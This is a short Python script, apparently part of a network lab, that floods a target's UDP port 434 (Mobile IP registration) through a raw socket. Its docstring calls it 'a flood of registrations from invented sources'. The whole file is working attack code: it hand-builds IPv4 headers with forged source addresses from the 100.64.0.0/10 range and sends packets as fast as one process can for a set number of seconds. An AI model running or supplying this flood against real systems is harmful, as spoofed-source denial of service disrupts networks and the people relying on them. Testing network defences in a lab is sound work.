"""A flood of registrations from invented sources: flood.py TARGET SECONDS HEX-DATA.

Run inside the attacker's namespace; sends as fast as one process can, and prints how many.
"""

import socket
import struct
import sys
import time

HEAD = struct.Struct(">BBHHHBBH4s4s")


def main(target, seconds, data):
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    udp = struct.pack(">HHHH", 434, 434, 8 + len(data), 0) + data
    size, to = HEAD.size + len(udp), socket.inet_aton(target)
    sent, end = 0, time.monotonic() + seconds
    while time.monotonic() < end:
        for _ in range(100):
            sent += 1
            source = (0x64400000 | sent & 0x3FFFFF).to_bytes(4, "big")
            raw.sendto(HEAD.pack(0x45, 0, size, 0, 0, 64, 17, 0, source, to) + udp, (target, 0))
    print(sent)


if __name__ == "__main__":
    main(sys.argv[1], float(sys.argv[2]), bytes.fromhex(sys.argv[3]))
